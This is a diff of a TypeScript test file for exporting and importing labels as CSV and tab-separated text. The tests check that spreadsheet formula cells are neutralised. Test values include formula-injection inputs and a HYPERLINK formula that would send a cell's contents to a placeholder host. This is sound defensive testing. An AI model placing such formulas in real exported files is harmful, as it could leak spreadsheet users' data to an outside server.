@@ -1,29 +1,27 @@
 import assert from 'node:assert/strict';
-import { parse } from 'csv-parse/sync';
 import * as fc from 'fast-check';
 import type { Label } from '../../../../../src/core/api/label.ts';
 import { editableValues, type LabelChanges } from '../../../../../src/core/api/labelFields.ts';
+import type { ImportRows } from '../../../../../src/core/labels/exchange/importRows.ts';
 import {
   allColumns,
   csvHeader,
   csvOf,
-  labelColumns,
   tabSeparatedText,
-  type CsvDialect,
 } from '../../../../../src/core/labels/exchange/labelCsv.ts';
 import { readImport, wantedByImport } from '../../../../../src/core/labels/exchange/labelImport.ts';
+import { labelColumns } from '../../../../../src/core/labels/labelColumns.ts';
+import { generateLabels } from '../../../../../src/sandbox/labelGenerator.ts';
 import { planAmong } from '../../../../support/planning.ts';
+import { spreadsheetWorker } from '../../../../support/spreadsheetWorker.ts';
 import { arbitraryLabels, labelOf } from '../arbitraryLabels.ts';
 
-const plain = { delimiter: ',', isExcelSafe: false } as const;
-const excel = { delimiter: ',', isExcelSafe: true } as const;
+function fileOf(labels: readonly Label[], columns: readonly string[] = labelColumns): string {
+  return csvHeader(columns) + csvOf(labels, columns);
+}
 
-function fileOf(
-  labels: readonly Label[],
-  dialect: CsvDialect,
-  columns: readonly string[] = labelColumns,
-): string {
-  return csvHeader(columns, dialect) + csvOf(labels, columns, dialect);
+async function imported(text: string): Promise<ImportRows> {
+  return await readImport(new TextEncoder().encode(text), { spreadsheetWorker });
 }
 
 /** What an import takes from a label: no field that is blank. */
@@ -35,23 +33,27 @@ function importedValues(label: Label): LabelChanges {
   );
 }
 
+/** Returns whether a file can hold the texts of a label. */
+function isWritable(label: Label): boolean {
+  return Object.values(label.record).every(
+    (value) => typeof value !== 'string' || value.isWellFormed(),
+  );
+}
+
 describe('labelCsv', () => {
   it('writes a header and one line for each label, with an empty cell for what is not there', () => {
     const label = labelOf({ id: '1', labelName: 'A "B", C', labelStatus: -1 });
     assert.equal(
-      fileOf([label], plain),
+      fileOf([label]),
       '"id","labelCode","labelName","labelStatus"\r\n"1","","A ""B"", C","-1"\r\n',
     );
   });
 
   it('is read back unchanged, whatever the texts are', async () => {
-    const dialects = fc.record({
-      delimiter: fc.constantFrom(',' as const, ';' as const),
-      isExcelSafe: fc.boolean(),
-    });
     await fc.assert(
-      fc.asyncProperty(arbitraryLabels, dialects, async (labels, dialect) => {
-        const reading = await readImport(new TextEncoder().encode(fileOf(labels, dialect)));
+      fc.asyncProperty(arbitraryLabels, async (all) => {
+        const labels = all.filter(isWritable);
+        const reading = await imported(fileOf(labels));
         assert.deepEqual(reading.problems, []);
         assert.deepEqual(
           Array.from(reading.rows, ([id, { changes }]) => ({ id, changes })),
@@ -60,7 +62,35 @@ describe('labelCsv', () => {
         const { changes, gone, unchanged } = planAmong(wantedByImport(reading), labels);
         assert.deepEqual([changes, gone, unchanged], [[], [], labels.length]);
       }),
-      { numRuns: 500 },
+      { numRuns: 150 },
+    );
+  });
+
+  it('is read back whatever became of its header, and as earlier versions wrote it', async () => {
+    const labels = [
+      labelOf({ id: '1784519230001240123', labelCode: '007', labelName: "'=1+1" }),
+      labelOf({ id: '2', labelCode: "'A", labelName: '3 of 4' }),
+    ];
+    const text = fileOf(labels);
+    const reading = await imported(text.replace(/^.*\r\n/, 'ID,LabelCode,LABELNAME,x\r\n'));
+    assert.deepEqual(
+      Array.from(reading.rows, ([id, { changes }]) => [id, changes]),
+      [
+        ['1784519230001240123', { labelCode: '007', labelName: "'=1+1" }],
+        ['2', { labelCode: "'A", labelName: '3 of 4' }],
+      ],
+    );
+    const withoutGuards = await imported("id,labelName\r\n1784519230001240123,'=1+1\r\n");
+    assert.deepEqual(
+      Array.from(withoutGuards.rows.values(), ({ changes }) => changes),
+      [{ labelName: "'=1+1" }],
+    );
+    const earlier = await imported(
+      "'id;'labelName;labelCode\r\n'1;'Company car 3;'Company car 3\r\n",
+    );
+    assert.deepEqual(
+      Array.from(earlier.rows.values(), ({ changes }) => changes),
+      [{ labelCode: "'Company car 3", labelName: 'Company car 3' }],
     );
   });
 
@@ -72,48 +102,47 @@ describe('labelCsv', () => {
     ];
     const columns = allColumns(labels);
     assert.deepEqual(columns, [...labelColumns, 'color', 'size', 'tags', 'isOld', 'big']);
-    assert.deepEqual(fileOf(labels, plain, columns).split('\r\n'), [
+    assert.deepEqual(fileOf(labels, columns).split('\r\n'), [
       '"id","labelCode","labelName","labelStatus","color","size","tags","isOld","big"',
-      '"1","","A","","=red","2","","",""',
-      '"2","B","","","","","[""x"",{""y"":null}]","true",""',
-      '"3","","","","","","","","12345678901234567890"',
+      `"1","","A","","'=red","2","","",""`,
+      `"2","B","","","","","[""x"",{""y"":null}]","'true",""`,
+      `"3","","","","","","","","'12345678901234567890"`,
       '',
     ]);
-    const safe = fileOf(labels, { delimiter: ';', isExcelSafe: true }, columns);
-    assert.match(safe, /"'=red";"2"/);
-    assert.match(safe, /"'12345678901234567890"/);
-    const reading = await readImport(new TextEncoder().encode(safe));
+    const reading = await imported(fileOf(labels, columns));
     assert.deepEqual(reading.ignoredColumns, ['color', 'size', 'tags', 'isOld', 'big']);
     assert.deepEqual(Array.from(reading.rows.keys()), ['1', '2', '3']);
   });
 
-  it('makes rows to be pasted into a spreadsheet', () => {
+  it('makes rows to be pasted into a spreadsheet, which converts none of them', async () => {
     const labels = [
       labelOf({ id: '1', labelCode: 'A', labelName: 'One', labelStatus: 2 }),
+      labelOf({ id: '1784519230001240123', labelCode: '007', labelName: '=1+1' }),
       labelOf({ id: '2', labelName: 'Two\tor "2"' }),
     ];
-    assert.equal(tabSeparatedText(labels), '1\tA\tOne\t2\n2\t\t"Two\tor ""2"""\t\n');
+    assert.deepEqual((await tabSeparatedText(labels)).split('\n'), [
+      '1\tA\tOne\t2',
+      "'1784519230001240123\t'007\t'=1+1\t",
+      `2\t\t"Two\tor ""2"""\t`,
+      '',
+    ]);
   });
 
-  it('leaves no cell that a spreadsheet would run or change where it is Excel-safe', () => {
-    fc.assert(
-      fc.property(arbitraryLabels, (labels) => {
-        const records: unknown = parse(fileOf(labels, excel), { bom: true });
-        assert.ok(Array.isArray(records));
-        for (const cell of records.slice(1).flat()) {
-          assert.match(String(cell), /^($|'|\p{L}\P{Nd}*$|-?\d+$)/u);
-        }
-      }),
+  it('leaves the names of labels alone', () => {
+    const options = { labels: 5000, seed: 1, oddLabels: true };
+    const names = generateLabels('acme', options).flatMap(({ labelName }) => labelName ?? []);
+    const guarded = names.filter((labelName) =>
+      csvOf([labelOf({ id: 'A', labelName })], labelColumns).includes(`"'`),
     );
-    for (const labelName of ['MAR1', 'Sep 2', '1E5', 'true', 'FALSE']) {
-      assert.match(
-        csvOf([labelOf({ id: 'A', labelName })], labelColumns, excel),
-        new RegExp(`"'${labelName}"`),
-      );
-    }
-    assert.match(csvOf([labelOf({ id: 'A', labelName: 'March' })], labelColumns, excel), /"March"/);
-    const formula = labelOf({ id: '1', labelName: '=HYPERLINK("x")' });
-    assert.match(csvOf([formula], labelColumns, excel), /"'=HYPERLINK/);
-    assert.match(csvOf([formula], labelColumns, plain), /"=HYPERLINK/);
+    assert.ok(names.length > 4900);
+    assert.deepEqual(
+      new Set(guarded),
+      new Set(['=HYPERLINK("http://example.invalid/?x="&A1,"Open")']),
+    );
+  });
+
+  it('leaves a cell empty whose text no file can hold', () => {
+    const label = labelOf({ id: 'A', labelName: 'half \uD83D', labelCode: 'B' });
+    assert.equal(csvOf([label], labelColumns), '"A","B","",""\r\n');
   });
 });
